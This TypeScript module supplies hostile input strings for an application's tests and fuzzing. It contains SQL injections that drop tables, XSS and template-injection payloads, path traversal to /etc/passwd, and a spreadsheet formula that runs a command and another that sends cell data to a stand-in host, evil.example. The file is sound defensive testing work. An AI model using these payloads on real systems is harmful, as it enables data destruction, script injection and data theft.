/**
 * Values an attacker would type, by what they attack. Shared by the hand-written hostile-input
 * tests and the schema-driven fuzzing, which mixes them into every generated request.
 */

/** SQL metacharacters and injections; LIKE wildcards and the escape character must be taken literally. */
export const SQL = [
  "'; drop table users; --",
  "' or '1'='1",
  '" or ""="',
  "1); delete from audit_log; --",
  "'||(select current_user)||'",
  '%',
  '_',
  '\\',
  '\\%',
  '%_\\',
  '$1',
  '$$; drop table cases; $$',
  "E'\\x27'",
  '‘quoted’ “double” ʼapostropheʼ ＇fullwidth＇',
  "O'Brien Məmmədova",
  '-- comment',
  '/* comment */',
] as const;

/** Markup and script: stored and shown as text, never as HTML. */
export const MARKUP = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  'javascript:alert(1)',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '&lt;b&gt;entity&lt;/b&gt; &amp; &#60;script&#62;',
  '<!-- comment --><![CDATA[x]]>',
] as const;

/** What a spreadsheet would evaluate if it reached a cell unchanged. */
export const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '=HYPERLINK("https://evil.example/?x="&A1,"Bax")',
  '\t=1+1',
  '\r=1+1',
] as const;

/** Text that is valid but unusual: scripts, direction marks, combining marks, astral characters. */
export const UNICODE = [
  'Ağcabədi Şəki Gəncə İsmayıllı',
  'Гянджа Шамахы',
  'Ə\u0301 combining, e\u0301 vs é',
  '\u202eevil\u202c right-to-left override',
  'zero\u200bwidth\u200djoiner\ufeff',
  '𝕏 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀👩‍👩‍👧',
  '\u0085next line\u2028line\u2029paragraph',
  'ＡＢＣ fullwidth',
] as const;

/** Text PostgreSQL cannot store: must be refused as invalid, never reach the database. */
export const UNSTORABLE = ['nul\u0000byte', 'lone \ud800 surrogate', 'reversed \udc00\ud800 pair', 'non\uffffcharacter'] as const;

/** Paths, format strings and other text that some layer might interpret. */
export const INTERPRETED = ['../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f', '%s%s%n%x', '{0}{1}', 'null', 'undefined', 'NaN', 'true', '[object Object]', '__proto__', 'constructor'] as const;

/** Dates that are not: wrong days, months and years, other formats, overflow. */
export const BAD_DATES = ['2024-02-30', '2023-02-29', '2024-13-01', '2024-00-10', '0000-00-00', '9999-99-99', '-001-01-01', '2024-1-1', '24-01-01', '2024/01/01', '01.02.2024', '2024-01-01T00:00:00Z', '+275760-09-13', ''] as const;

/** Numbers at and beyond every edge that JSON can carry. */
export const EDGE_NUMBERS = [0, -0, -1, 1.5, 0.1, 2 ** 31, -(2 ** 31) - 1, 2 ** 53, 2 ** 53 + 2, -(2 ** 53) - 2, 1e308, -1e308, 5e-324] as const;

/** Object keys that would pollute a prototype if merged naively. */
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'] as const;

export const HOSTILE_STRINGS: readonly string[] = [...SQL, ...MARKUP, ...FORMULAS, ...UNICODE, ...UNSTORABLE, ...INTERPRETED, ...BAD_DATES];
